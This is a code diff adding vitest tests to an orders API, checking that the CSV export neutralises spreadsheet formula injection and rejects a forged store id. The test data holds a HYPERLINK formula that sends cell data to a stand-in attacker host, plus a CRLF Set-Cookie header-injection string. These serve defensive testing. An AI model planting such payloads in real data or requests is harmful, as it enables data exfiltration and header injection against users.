@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { GET as listRoute } from "@/app/api/v1/orders/route";
+import { GET as listRoute, POST as postOrderRoute } from "@/app/api/v1/orders/route";
 import { GET as countRoute } from "@/app/api/v1/orders/count/route";
 import { GET as historyRoute } from "@/app/api/v1/orders/history/route";
 import { GET as storeOrdersRoute } from "@/app/api/v1/stores/[id]/orders/route";
@@ -73,6 +73,37 @@ describe("CSV export", () => {
     expect(rows.map((r) => Number(r[0]))).toEqual(expected);
     expect(expected).toHaveLength(802);
     expect(rows.find((r) => Number(r[0]) === made[7]!.id)?.[7]).toBe('Ann "Quote", Jr Doe');
+  });
+
+  it("writes no cell a spreadsheet would run, whatever an integrator put in the order", async () => {
+    const attacked = makeStore();
+    const post = await postOrderRoute(
+      new Request("http://x/api/v1/orders", {
+        method: "POST",
+        headers: { "content-type": "application/json", authorization: `Bearer ${makeToken(["orders:write"], attacked)}` },
+        body: JSON.stringify({
+          ...orderInput(attacked),
+          external_id: "@SUM(1+1)",
+          customer: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")', last_name: "" },
+        }),
+      }),
+    );
+    expect(post.status).toBe(201);
+    const manager = signInAs((await makeEmployee("manager", [attacked])).id).token;
+    const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${attacked}`, { headers: { cookie: `ob_session=${manager}` } }));
+    const [header, row] = parseCsv(await response.text());
+    expect(row![header!.indexOf("customer")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Refund")`);
+    expect(row![header!.indexOf("external_id")]).toBe("'@SUM(1+1)");
+    expect(row!.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+  });
+
+  it("looks the store up before naming the file: an unknown or forged store id is a 404, never a broken header", async () => {
+    const admin = signInAs((await makeEmployee("admin", [])).id).token;
+    const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${encodeURIComponent("mission\r\nSet-Cookie: x=1")}`, { headers: { cookie: `ob_session=${admin}` } }));
+    expect(response.status).toBe(404);
+    expect((await response.json()).error.code).toBe("STORE_NOT_FOUND");
+    const good = await exportRoute(new Request(`http://x/api/orders/export?store_id=${storeId}`, { headers: { cookie: `ob_session=${admin}` } }));
+    expect(good.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="orders-${storeId}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
   });
 
   it("is for managers of the store and admins only", async () => {
